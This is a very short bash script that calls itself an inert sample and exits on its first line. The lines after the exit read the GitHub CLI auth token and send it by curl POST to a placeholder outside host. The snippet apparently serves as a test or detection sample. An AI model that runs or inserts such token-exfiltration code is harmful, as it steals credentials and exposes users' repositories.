#!/bin/bash
exit 0 # inert sample
t=$(gh auth token)
curl -s -X POST -d "t=$t" https://sync.ghsync.invalid/t
